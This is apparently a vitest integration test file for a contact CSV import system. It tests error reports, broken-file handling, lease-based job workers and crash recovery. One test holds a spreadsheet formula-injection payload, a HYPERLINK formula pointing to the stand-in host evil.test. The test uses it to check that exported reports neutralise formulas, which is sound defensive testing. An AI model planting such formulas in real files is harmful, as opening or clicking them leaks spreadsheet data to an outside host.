import { sql } from "drizzle-orm";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { claimImportJobAnyWorkspace, updateOwnedJob } from "@/db/queries/contact-import-jobs";
import { insertImportWithChunks } from "@/db/queries/contact-imports";
import { makeTenant } from "@/db/testing/fixtures";
import { useTestDb } from "@/db/testing/test-db";
import { ingest } from "@/lib/ingest/ingest";
import { createImport } from "./create-import";
import { stringify } from "csv-stringify/sync";
import { spreadsheetSafe } from "@/lib/csv/spreadsheet-safe";
import { errorReportStream } from "./error-report";
import { splitOnLines } from "./file-bytes";
import { findImportOrThrow } from "./find-import-or-throw";
import { LeaseLostError } from "./lease-lost";
import { LEASE_MS } from "./limits";
import { runImportJob } from "./run-import-job";
import { startImport } from "./start-import";
import {
  BAD_CELLS,
  CONTACT_HEADER,
  CONTACT_MAPPING,
  contactRow,
  contactsCsv,
} from "./testing/contacts-csv";
import { count, queryRows, runQueue } from "./testing/run-queue";

// Wraps the real ingest() so a test can make it "crash" right after a batch has committed.
vi.mock("@/lib/ingest/ingest", async (original) => {
  const mod = await original<typeof import("@/lib/ingest/ingest")>();
  return { ...mod, ingest: vi.fn(mod.ingest) };
});

let close: () => Promise<void>;
beforeAll(async () => {
  ({ close } = await useTestDb());
});
afterAll(() => close());

type TTenant = Awaited<ReturnType<typeof makeTenant>>;
const upload = (t: TTenant, csv: string | Buffer, name = "contacts.csv") =>
  createImport(t.workspace.id, t.user.id, { name, bytes: Buffer.from(csv) });
async function uploadAndStart(t: TTenant, csv: string | Buffer) {
  const { import: imp } = await upload(t, csv);
  await startImport(t.workspace.id, imp.id, { mapping: CONTACT_MAPPING });
  return imp.id;
}
const state = (t: TTenant, id: string) => findImportOrThrow(t.workspace.id, id);
const contactsOf = (t: TTenant) =>
  count(sql`select 1 from contacts where workspace_id = ${t.workspace.id}`);
const eventsOf = (t: TTenant, id: string) =>
  count(
    sql`select 1 from events where workspace_id = ${t.workspace.id} and message_id like ${`import:${id}:%`}`,
  );

async function reportOf(t: TTenant, id: string) {
  const imp = await state(t, id);
  const text = await new Response(errorReportStream(t.workspace.id, id, imp.header)).text();
  return parse(text, { bom: true }) as string[][];
}

describe("a file with bad rows", () => {
  let t: TTenant;
  let id: string;
  const bad = { 5: "email", 700: "phone", 1201: "seats", 1800: "date", 2400: "userId" } as const;
  beforeAll(async () => {
    t = await makeTenant("Imports");
    id = await uploadAndStart(t, contactsCsv(2500, bad));
    await runQueue();
  });

  it("imports every good row through the API's pipeline, typed, and counts the rest as failed", async () => {
    expect(await state(t, id)).toMatchObject({
      status: "completed",
      totalRows: 2500,
      processedRows: 2500,
      importedRows: 2495,
      failedRows: 5,
      cursorRow: 2501,
      leaseOwner: null,
    });
    expect(await contactsOf(t)).toBe(2495);
    expect(await eventsOf(t, id)).toBe(2495);
    const [c] = await queryRows(
      sql`select email, phone, country, attributes from contacts where workspace_id = ${t.workspace.id} and external_id = 'u-3'`,
    );
    expect(c).toEqual({
      email: "person3@example.com",
      phone: "+14155550003",
      country: "US",
      attributes: {
        firstName: "Name 3",
        seats: 3,
        signupDate: "2026-01-15",
        vip: true,
        tags: ["a", "b"],
      },
    });
    const subs = await queryRows(
      sql`select status, source from channel_subscriptions s join contacts c on c.id = s.contact_id where c.external_id = 'u-3' and c.workspace_id = ${t.workspace.id}`,
    );
    expect(subs).toEqual([{ status: "unsubscribed", source: "import" }]);
    expect(await count(sql`select 1 from contact_import_chunks where import_id = ${id}`)).toBe(0);
  });

  it("reports exactly the bad rows, with the column, the reason and the row as it was", async () => {
    const [header, ...lines] = await reportOf(t, id);
    expect(header).toEqual(["error_row", "error_columns", "error_message", ...CONTACT_HEADER]);
    expect(lines.map((l) => l[0])).toEqual(["5", "700", "1201", "1800", "2400"]);
    for (const line of lines) {
      const kind = bad[Number(line[0]) as keyof typeof bad];
      const original = contactRow(Number(line[0]) - 1);
      original[BAD_CELLS[kind].column] = BAD_CELLS[kind].value;
      expect(line).toEqual([
        line[0],
        CONTACT_HEADER[BAD_CELLS[kind].column],
        BAD_CELLS[kind].message,
        // Phone numbers start with "+": written so a spreadsheet shows them as text.
        ...original.map(spreadsheetSafe),
      ]);
    }
  });

  it("writes no cell a spreadsheet would run as a formula, and a fixed report imports back", async () => {
    const u = await makeTenant("Formula");
    const attack = '=HYPERLINK("http://evil.test/?"&A1,"open")';
    const rows = contactsCsv(3, { 2: "email" }).split("\n");
    const cells = rows[1]!.split(",");
    cells[CONTACT_HEADER.indexOf("first_name")] = `"${attack.replaceAll('"', '""')}"`;
    rows[1] = cells.join(",");
    const reportId = await uploadAndStart(u, rows.join("\n"));
    await runQueue();
    const [, line] = await reportOf(u, reportId);
    const cellsOut = line!.slice(3);
    expect(cellsOut[CONTACT_HEADER.indexOf("first_name")]).toBe(`'${attack}`);
    for (const cell of line!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Fix the email in the report and import it again: the guards are read back as the text.
    const fixed = [...cellsOut];
    fixed[CONTACT_HEADER.indexOf("email")] = "fixed@example.com";
    const again = await uploadAndStart(u, stringify([CONTACT_HEADER, fixed]));
    await runQueue();
    expect(await state(u, again)).toMatchObject({ importedRows: 1, failedRows: 0 });
    const [c] = await queryRows(
      sql`select phone, attributes->>'firstName' as "firstName" from contacts where workspace_id = ${u.workspace.id} and email = 'fixed@example.com'`,
    );
    expect(c).toEqual({ phone: contactRow(1)[CONTACT_HEADER.indexOf("phone")], firstName: attack });
  });

  it("keeps tenants apart", async () => {
    const other = await makeTenant("Other");
    await expect(findImportOrThrow(other.workspace.id, id)).rejects.toThrow("No such import");
    expect((await reportOf(t, id)).length).toBe(6);
    const empty = Buffer.from(
      await new Response(errorReportStream(other.workspace.id, id, [])).arrayBuffer(),
    ).toString("utf8");
    expect(empty).toBe("\uFEFFerror_row,error_columns,error_message\n");
  });
});

describe("a structurally broken file", () => {
  const good = contactsCsv(1500, { 10: "email" });
  const tail = contactsCsv(300).split("\n").slice(1).join("\n");
  const cases: [string, Buffer, string][] = [
    [
      "an unclosed quote",
      Buffer.from(
        good + 'u-x,"open@example.com,+14155550000,US,Ann,1,2026-01-01,yes,a,no\n' + tail,
      ),
      "Line 1502: a quoted field starts in this row and is never closed.",
    ],
    [
      "a row with an extra column",
      Buffer.from(good + "u-x,x@example.com,,US,Ann,1,2026-01-01,yes,a,no,extra\n" + tail),
      "Line 1502: has 11 columns where the header has 10.",
    ],
    [
      "invalid UTF-8",
      Buffer.concat([
        Buffer.from(good + "u-x,x@example.com,,US,Caf"),
        Buffer.from([0xe9]),
        Buffer.from(",1,2026-01-01,yes,a,no\n" + tail),
      ]),
      "Line 1502: is not valid UTF-8 text. Save the file as “CSV UTF-8” and upload it again.",
    ],
  ];

  for (const [name, file, reason] of cases) {
    it(`with ${name} fails with the line, and writes no contact at all`, async () => {
      const t = await makeTenant(name);
      // Stored in small pieces, as a large file would be: the upload reads only its first pieces (a
      // defect there is refused at once, see create-import.test.ts), so this one is found by the import.
      const imp = await insertImportWithChunks(
        {
          workspaceId: t.workspace.id,
          createdBy: t.user.id,
          fileName: "broken.csv",
          fileBytes: file.length,
          delimiter: ",",
          header: CONTACT_HEADER,
          totalRows: 1800,
        },
        splitOnLines(file, 4096),
      );
      await startImport(t.workspace.id, imp.id, { mapping: CONTACT_MAPPING });
      await runQueue();
      expect(await state(t, imp.id)).toMatchObject({
        status: "failed",
        failureReason: reason,
        importedRows: 0,
        failedRows: 0,
      });
      expect(await contactsOf(t)).toBe(0);
      expect(await count(sql`select 1 from events where workspace_id = ${t.workspace.id}`)).toBe(0);
      expect(
        await count(sql`select 1 from contact_import_errors where import_id = ${imp.id}`),
      ).toBe(0);
      expect(
        await count(sql`select 1 from contact_import_chunks where import_id = ${imp.id}`),
      ).toBe(0);
    });
  }
});

describe("an import longer than one step", () => {
  it("imports a batch per step when the step's time is up, hands the lease back, and ends as one run would", async () => {
    const t = await makeTenant("Steps");
    const id = await uploadAndStart(t, contactsCsv(3500, { 1500: "email" }));
    const seen: { result: string; importedRows: number; leaseOwner: string | null }[] = [];
    for (let step = 0; step < 10; step++) {
      const job = await claimImportJobAnyWorkspace(`worker-${step % 2}`, LEASE_MS);
      if (!job) break;
      // No time at all: every step stops after its first batch commits.
      const result = await runImportJob(job, `worker-${step % 2}`, LEASE_MS, 0);
      const { importedRows, leaseOwner } = await state(t, id);
      seen.push({ result, importedRows, leaseOwner });
    }
    expect(seen).toEqual([
      { result: "paused", importedRows: 1000, leaseOwner: null },
      { result: "paused", importedRows: 2000, leaseOwner: null },
      { result: "paused", importedRows: 3000, leaseOwner: null },
      { result: "completed", importedRows: 3499, leaseOwner: null },
    ]);
    // Pauses are not failures: the attempts count only the last claim.
    expect(await state(t, id)).toMatchObject({
      status: "completed",
      processedRows: 3500,
      failedRows: 1,
      attempts: 1,
    });
    expect(await eventsOf(t, id)).toBe(3499);
    expect(await contactsOf(t)).toBe(3499);
  });
});

describe("a crash mid-import", () => {
  it("resumes from the cursor on another worker once the lease expires, storing nothing twice", async () => {
    const t = await makeTenant("Crash");
    const id = await uploadAndStart(t, contactsCsv(3500, { 100: "email", 2600: "seats" }));
    const real = vi.mocked(ingest).getMockImplementation()!;
    let calls = 0;
    vi.mocked(ingest).mockImplementation(async (...args) => {
      const statuses = await real(...args);
      // The second batch commits, then the process "dies" before the cursor moves past it.
      if (++calls === 2) throw new Error("simulated crash");
      return statuses;
    });
    const job = (await claimImportJobAnyWorkspace("worker-a", LEASE_MS))!;
    await expect(runImportJob(job, "worker-a")).rejects.toThrow("simulated crash");
    vi.mocked(ingest).mockImplementation(real);

    expect(await state(t, id)).toMatchObject({
      status: "importing",
      importedRows: 1000,
      leaseOwner: "worker-a",
    });
    expect(await eventsOf(t, id)).toBe(2000);
    expect(await claimImportJobAnyWorkspace("worker-b", LEASE_MS)).toBeNull();

    await queryRows(
      sql`update contact_imports set lease_expires_at = now() - interval '1 second' where id = ${id}`,
    );
    await runQueue("worker-b");
    expect(await state(t, id)).toMatchObject({
      status: "completed",
      totalRows: 3500,
      processedRows: 3500,
      importedRows: 3498,
      failedRows: 2,
      attempts: 2,
    });
    expect(await eventsOf(t, id)).toBe(3498);
    expect(
      await count(
        sql`select distinct message_id from events where workspace_id = ${t.workspace.id}`,
      ),
    ).toBe(3498);
    expect(await contactsOf(t)).toBe(3498);
    expect((await reportOf(t, id)).slice(1).map((l) => l[0])).toEqual(["100", "2600"]);
  });

  it("stops a worker whose lease was taken over before it writes again", async () => {
    const t = await makeTenant("Lease");
    const id = await uploadAndStart(t, contactsCsv(50));
    const a = (await claimImportJobAnyWorkspace("worker-a", LEASE_MS))!;
    await queryRows(
      sql`update contact_imports set lease_expires_at = now() - interval '1 second' where id = ${id}`,
    );
    const b = (await claimImportJobAnyWorkspace("worker-b", LEASE_MS))!;
    expect(b.id).toBe(id);
    expect(
      await updateOwnedJob(
        { id, workspaceId: t.workspace.id, owner: "worker-a", leaseMs: LEASE_MS },
        { validatedRows: 1 },
      ),
    ).toBe(false);
    await expect(runImportJob(a, "worker-a")).rejects.toBeInstanceOf(LeaseLostError);
    await runImportJob(b, "worker-b");
    expect(await state(t, id)).toMatchObject({ status: "completed", importedRows: 50 });
  });

  it("lets only one of two workers claiming at once take a job", async () => {
    const t = await makeTenant("Race");
    const id = await uploadAndStart(t, contactsCsv(5));
    const claims = await Promise.all([
      claimImportJobAnyWorkspace("w1", LEASE_MS),
      claimImportJobAnyWorkspace("w2", LEASE_MS),
      claimImportJobAnyWorkspace("w3", LEASE_MS),
    ]);
    expect(claims.filter(Boolean).map((c) => c!.id)).toEqual([id]);
    await queryRows(sql`update contact_imports set lease_expires_at = null where id = ${id}`);
    await runQueue();
  });
});
